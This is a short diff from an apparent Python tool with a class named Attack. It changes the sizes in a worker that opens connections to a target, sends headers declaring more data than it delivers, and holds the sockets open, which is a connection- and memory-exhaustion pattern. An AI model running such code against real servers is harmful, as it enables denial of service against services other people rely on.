@@ -279,7 +279,7 @@ class Attack:
 
         def work() -> None:
             sock = socket.create_connection((self.host, self.port), timeout=5)
-            sock.sendall(struct.pack(">II", 250_000, 249_996) + bytes(200_000))
+            sock.sendall(struct.pack(">II", 60_000, 59_996) + bytes(50_000))
             held.append(sock)
             self.did["connections"] += 1
 
